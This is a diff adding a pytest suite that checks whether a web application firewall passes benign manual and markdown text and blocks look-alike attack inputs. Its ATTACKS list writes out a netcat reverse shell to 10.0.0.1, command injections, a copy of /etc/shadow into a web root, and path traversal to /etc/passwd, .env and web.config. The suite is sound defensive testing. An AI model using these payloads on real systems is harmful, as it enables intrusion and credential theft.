@@ -1,0 +1,121 @@
+"""WAF, manuals and documents (issue 11's twelfth round: a held-out corpus of
+--help texts, man pages, markdown notes and code reviews, written by a writer
+who did not read the rules) through the real edge (shipped config, bans off).
+Each look-alike is a grammar a reader and a shell or a file system read
+differently from the attack it resembles; the attack in the same syntax is
+still refused by the rule that read the look-alike before.
+
+- a line that starts with a shell prompt ("$ tool -n 10 | sort -k2 | head")
+  is a command line written for a reader, as one that starts with a known
+  command word is, whatever its program is called (rce-command);
+- a log under /var/log written by a line of its own ("$ tool 2>>/var/log/
+  tool.err" in a --help text, a crontab line after the man page's title)
+  is what a manual's example appends to: the lines of a document are not a
+  chain, only a separator on the writing line is (lfi-system-path);
+- a relative link up to three steps to a page, a picture, a stylesheet, a
+  site's script or a project's LICENSE, in text or a markdown link
+  ("[License](../../LICENSE)", "`../../shared/utils.ts`"), and "../" as a
+  word lead nowhere secret (lfi-traversal); a step to a server's code, a
+  settings file, the OS's directories, or four steps, still is.
+"""
+import urllib.parse
+import uuid
+
+import pytest
+import requests
+
+from wafkit import WafEdge, only_classes_config, waf_config
+
+CONF = waf_config()
+CLASSES = ("rce", "lfi")
+
+LOOKALIKES = [
+    "usage: syncit [OPTIONS] SOURCE DEST\n\nexamples:\n"
+    "  $ syncit -n 10 | sort -k2 -nr | head\n"
+    "  $ NO_COLOR=1 syncit --format table | less -S",
+    "Examples:\n  $ kvctl get users/42 | jq .name\n  $ kvctl ls | wc -l",
+    "examples:\n  $ kvctl --config /etc/kvctl/prod.toml 2>>/var/log/kvctl.err",
+    "CRONTAB(5)\n\n  # m h dom mon dow command\n"
+    "  */15 * * * *  /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1",
+    "Run it nightly:\n0 3 * * * /opt/app/bin/prune >> /var/log/prune.log 2>&1",
+    "[License](../../LICENSE)",
+    "![screenshot](../../docs/api/index.md)",
+    "See ../guides/getting-started.md#prerequisites first.",
+    "Approving. One question about `../../shared/utils.ts`: can we import "
+    "via the alias instead? Three levels of ../ are hard to follow.",
+    "../ relative path meaning",
+    "- [Install](../install.md)\n- [API](../../docs/api/README.md)\n"
+    "- ![logo](../../assets/logo.svg)",
+]
+
+# (value, the rule that must report it)
+ATTACKS = [
+    ("syncit -n 10 | sort -k2 -nr | head", "rce-command"),
+    ("x | nc 10.0.0.1 4444 -e sh", "rce-command"),
+    ("$ x;id;", "rce-command"),
+    ("x; echo pwned >> /var/log/auth.log", "lfi-system-path"),
+    ("x >> /var/log/app.log; id", "lfi-system-path"),
+    ("note\ncat /etc/shadow > /var/www/html/s.txt", "lfi-system-path"),
+    ("../../../../LICENSE", "lfi-traversal"),
+    ("[x](../../../../etc/passwd)", "lfi-traversal"),
+    ("see `../../app/settings.py`", "lfi-traversal"),
+    ("../../x.png ../../../etc/passwd", "lfi-traversal"),
+    ("../../etc/passwd.png", "lfi-traversal"),
+    ("![a](../../../var/www/.env.png)", "lfi-traversal"),
+    ("..\\..\\web.config", "lfi-traversal"),
+]
+
+
+@pytest.fixture(scope="module")
+def edge(tmp_path_factory):
+    e = WafEdge(tmp_path_factory.mktemp("waf-manuals"), CONF).start()
+    yield e
+    e.stop()
+
+
+@pytest.fixture(scope="module")
+def class_edges(tmp_path_factory):
+    edges = {c: WafEdge(tmp_path_factory.mktemp("waf-manuals-" + c),
+                        only_classes_config(c)).start() for c in CLASSES}
+    yield edges
+    for e in edges.values():
+        e.stop()
+
+
+@pytest.fixture(autouse=True)
+def no_lua_errors(edge, class_edges):
+    yield
+    for e in (edge, *class_edges.values()):
+        bad = e.error_lines("error") + e.error_lines("crit")
+        assert not bad, "\n".join(bad)
+
+
+def send(edge, value, how):
+    rid = "manuals-" + uuid.uuid4().hex
+    if how == "note":
+        r = requests.post(edge.url + "/api/notes", json={"note": value},
+                          headers={"X-Request-ID": rid})
+    else:
+        r = requests.get(edge.url + "/api/search?q="
+                         + urllib.parse.quote(value, safe=""),
+                         headers={"X-Request-ID": rid})
+    return r.status_code, rid
+
+
+@pytest.mark.parametrize("how", ["note", "query"])
+@pytest.mark.parametrize("value", LOOKALIKES, ids=range(len(LOOKALIKES)))
+def test_manuals_and_documents_pass(edge, value, how):
+    status, rid = send(edge, value, how)
+    assert status != 403, (value, edge.audit_for(rid))
+
+
+@pytest.mark.parametrize("how", ["note", "query"])
+@pytest.mark.parametrize("value,rule", ATTACKS, ids=range(len(ATTACKS)))
+def test_the_same_syntax_as_an_attack_is_refused(edge, class_edges, value, rule, how):
+    status, _ = send(edge, value, how)
+    assert status == 403, value
+    alone = class_edges[rule.split("-")[0]]
+    status, rid = send(alone, value, how)
+    assert status == 403, (value, rule)
+    rules = [m["rule"] for m in alone.audit_for(rid)["matches"]]
+    assert rule in rules, (value, rules)
